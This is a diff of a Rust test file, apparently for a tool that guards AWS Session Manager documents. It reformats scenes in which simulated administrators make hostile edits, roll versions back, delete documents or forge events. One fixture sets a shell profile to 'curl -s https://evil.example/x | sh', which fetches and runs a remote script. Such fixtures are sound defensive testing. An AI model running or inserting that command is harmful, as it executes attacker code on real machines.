@@ -56,14 +56,23 @@ async fn sweep(stage: &mut Stage) -> Scene {
 
 async fn vend(stage: &mut Stage) -> Scene {
     let vended = stage.vend(VENDED, "newcomer").is_ok();
-    let scene = stage.play("An account is vended", "SSM answers after 8 s, the member role appears after 20 s; no pipeline ran yet", 900).await;
+    let scene = stage
+        .play(
+            "An account is vended",
+            "SSM answers after 8 s, the member role appears after 20 s; no pipeline ran yet",
+            900,
+        )
+        .await;
     let mut scene = scene.expect("the event came from Organizations", vended);
     for region in REGIONS {
         let records = stage.sim().ledger().records;
         let configured = target(VENDED, region).ok().and_then(|target| records.get(&target)?.configured);
         let since = stage.sim().vended_at(VENDED);
         let seconds = configured.zip(since).map(|(done, began)| done.since(began) / 1_000);
-        let what = seconds.map_or_else(|| format!("{region} is configured"), |s| format!("{region} is configured {s} s after the account was vended"));
+        let what = seconds.map_or_else(
+            || format!("{region} is configured"),
+            |s| format!("{region} is configured {s} s after the account was vended"),
+        );
         scene = scene.expect(&what, right(stage, VENDED, region) && seconds.is_some_and(|s| s < 300));
     }
     scene
@@ -73,7 +82,13 @@ async fn pipeline(stage: &mut Stage) -> Scene {
     at(PAYMENTS, "eu-west-1", |target| {
         let _ = stage.sim().lza_writes(target, "AWSAccelerator-sessions-2027");
     });
-    let scene = stage.play("The LZA pipeline runs", "it rewrites the document for a new log group and drops the timeout that it does not know", 60).await;
+    let scene = stage
+        .play(
+            "The LZA pipeline runs",
+            "it rewrites the document for a new log group and drops the timeout that it does not know",
+            60,
+        )
+        .await;
     let log_group = input(stage, PAYMENTS, "eu-west-1", "cloudWatchLogGroupName");
     let timeout = input(stage, PAYMENTS, "eu-west-1", "idleSessionTimeout");
     scene
@@ -89,12 +104,16 @@ async fn administrator(stage: &mut Stage) -> Scene {
         let edit = json!({ "runAsEnabled": false, "shellProfile": { "linux": "curl -s https://evil.example/x | sh", "windows": "" } });
         let _ = stage.sim().edit_inputs(target, &alice, &edit);
     });
-    let scene = stage.play("An administrator edits the document", "Run As off, and a shell profile for everybody", 60).await;
+    let scene =
+        stage.play("An administrator edits the document", "Run As off, and a shell profile for everybody", 60).await;
     let told = stage.told_since(before);
     scene
         .expect("Run As is back on", right(stage, PAYMENTS, "eu-central-1"))
         .expect("the shell profile is gone", input(stage, PAYMENTS, "eu-central-1", "shellProfile").is_null())
-        .expect("the alert names who, and shows the fields", names(&told, "edit_reverted", &["alice@example.com", "runAsEnabled: true -> false", "shellProfile"]))
+        .expect(
+            "the alert names who, and shows the fields",
+            names(&told, "edit_reverted", &["alice@example.com", "runAsEnabled: true -> false", "shellProfile"]),
+        )
         .expect("one alert, not several", told.len() == 1)
 }
 
@@ -104,11 +123,14 @@ async fn rollback(stage: &mut Stage) -> Scene {
         let mallory = Caller::administrator(&target.account, "mallory@example.com");
         let _ = stage.sim().move_default(target, &mallory, 1);
     });
-    let scene = stage.play("The default version is rolled back", "no content changes, only an old version is made the default", 60).await;
+    let scene = stage
+        .play("The default version is rolled back", "no content changes, only an old version is made the default", 60)
+        .await;
     let told = stage.told_since(before);
-    scene
-        .expect("the right version is the default again", right(stage, PAYMENTS, "eu-central-1"))
-        .expect("the alert names who", names(&told, "edit_reverted", &["mallory@example.com", "made version 1 the default"]))
+    scene.expect("the right version is the default again", right(stage, PAYMENTS, "eu-central-1")).expect(
+        "the alert names who",
+        names(&told, "edit_reverted", &["mallory@example.com", "made version 1 the default"]),
+    )
 }
 
 async fn deletion(stage: &mut Stage) -> Scene {
@@ -117,7 +139,8 @@ async fn deletion(stage: &mut Stage) -> Scene {
         let mallory = Caller::administrator(&target.account, "mallory@example.com");
         let _ = stage.sim().delete_document(target, &mallory);
     });
-    let scene = stage.play("The document is deleted", "Session Manager would fall back to ssm-user, without logging", 60).await;
+    let scene =
+        stage.play("The document is deleted", "Session Manager would fall back to ssm-user, without logging", 60).await;
     let told = stage.told_since(before);
     let logging = input(stage, SEARCH, "us-east-1", "cloudWatchLogGroupName");
     scene
@@ -142,8 +165,14 @@ async fn not_ours_to_write(stage: &mut Stage) -> Scene {
     let told = stage.told_since(before);
     scene
         .expect("neither was written", edited == (version(stage, PILOT), version(stage, APPLIANCE)))
-        .expect("the edit in the observed account is told", names(&told, "edit_noticed", &["bob@example.com", "observe"]))
-        .expect("the edit in the exempt account is told", names(&told, "exempt_touched", &["bob@example.com", "appliance"]))
+        .expect(
+            "the edit in the observed account is told",
+            names(&told, "edit_noticed", &["bob@example.com", "observe"]),
+        )
+        .expect(
+            "the edit in the exempt account is told",
+            names(&told, "exempt_touched", &["bob@example.com", "appliance"]),
+        )
 }
 
 async fn not_laundered(stage: &mut Stage) -> Scene {
@@ -154,13 +183,29 @@ async fn not_laundered(stage: &mut Stage) -> Scene {
         let _ = stage.sim().edit_inputs(target, &mallory, &hostile);
         // A pipeline that reads, changes one field and writes back carries the hostile bucket along.
         let pipeline = Caller::lza(&target.account);
-        let _ = stage.sim().edit_inputs(target, &pipeline, &json!({ "cloudWatchLogGroupName": "AWSAccelerator-sessions-2027" }));
+        let _ = stage.sim().edit_inputs(
+            target,
+            &pipeline,
+            &json!({ "cloudWatchLogGroupName": "AWSAccelerator-sessions-2027" }),
+        );
     });
-    let scene = stage.play("A hostile edit just before a trusted one", "the pipeline writes back what it read, the hostile bucket included", 60).await;
+    let scene = stage
+        .play(
+            "A hostile edit just before a trusted one",
+            "the pipeline writes back what it read, the hostile bucket included",
+            60,
+        )
+        .await;
     let told = stage.told_since(before);
     scene
-        .expect("what the pipeline changed is kept", input(stage, SEARCH, "eu-west-1", "cloudWatchLogGroupName") == "AWSAccelerator-sessions-2027")
-        .expect("the hostile bucket is not laundered", input(stage, SEARCH, "eu-west-1", "s3BucketName") != "mallorys-bucket")
+        .expect(
+            "what the pipeline changed is kept",
+            input(stage, SEARCH, "eu-west-1", "cloudWatchLogGroupName") == "AWSAccelerator-sessions-2027",
+        )
+        .expect(
+            "the hostile bucket is not laundered",
+            input(stage, SEARCH, "eu-west-1", "s3BucketName") != "mallorys-bucket",
+        )
         .expect("Run As is right", right(stage, SEARCH, "eu-west-1"))
         .expect("the alert names who", names(&told, "edit_reverted", &["mallory@example.com", "s3BucketName"]))
 }
@@ -171,10 +216,22 @@ async fn forged(stage: &mut Stage) -> Scene {
         stage.sim().organizations_event(member, "AccountDepartedOrganization", &json!({ "accountId": SEARCH }));
     });
     stage.sim().enqueue("{ this is not JSON");
-    let scene = stage.play("A forged event and a broken message", "a member account says that another one left; a message is not JSON", 60).await;
+    let scene = stage
+        .play(
+            "A forged event and a broken message",
+            "a member account says that another one left; a message is not JSON",
+            60,
+        )
+        .await;
     let told = stage.told_since(before);
     scene
-        .expect("the forged departure has no effect and is told", names(&told, "distrusted", &["not the management account"]))
-        .expect("the broken message is in the dead-letter queue, with the reason, and told", stage.sim().dead_letters().len() == 1 && names(&told, "poison", &[]))
+        .expect(
+            "the forged departure has no effect and is told",
+            names(&told, "distrusted", &["not the management account"]),
+        )
+        .expect(
+            "the broken message is in the dead-letter queue, with the reason, and told",
+            stage.sim().dead_letters().len() == 1 && names(&told, "poison", &[]),
+        )
         .expect("everything else still stands", right(stage, SEARCH, "eu-west-1"))
 }
